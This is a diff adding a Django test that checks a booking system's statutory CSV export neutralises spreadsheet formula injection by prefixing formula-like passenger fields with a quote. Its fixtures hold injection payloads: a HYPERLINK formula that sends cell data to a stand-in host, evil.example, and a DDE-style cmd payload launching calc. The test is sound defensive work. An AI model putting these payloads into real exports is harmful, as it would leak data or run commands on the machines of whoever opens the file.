@@ -176,3 +176,26 @@ def test_passenger_admin_blocks_and_unblocks_through_the_services(staff_client):
     )
     passenger.refresh_from_db()
     assert (passenger.blocked, passenger.blocked_reason) == (False, "")
+
+
+def test_statutory_record_export_writes_passenger_formulas_as_text(staff_client, booking_factory):
+    """Issue 13: "The statutory CSV export writes `=HYPERLINK(...)` and `@SUM(...)` from
+    passenger input as formulas". Cells that a spreadsheet would run start with a quote."""
+    booking = booking_factory(
+        passenger_name='=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        pickup="@SUM(1+1)*cmd|' /C calc'!A0",
+        dropoff="\tLeeds station",
+        passenger_phone="+447700900123",
+    )
+    response = staff_client.post(
+        "/admin/bookings/booking/",
+        {"action": "export_statutory_record", "_selected_action": [booking.pk]},
+    )
+    header, row = list(csv.reader(io.StringIO(response.content.decode())))[:2]
+    record = dict(zip(header, row, strict=True))
+    assert record["Passenger name"] == "'" + booking.passenger_name
+    assert record["Pickup"] == "'" + booking.pickup
+    assert record["Destination"] == "'\tLeeds station"
+    # A plain number runs nothing and stays as it is.
+    assert record["Passenger phone"] == "+447700900123"
+    assert record["Fare quoted (GBP)"] == "48.20"
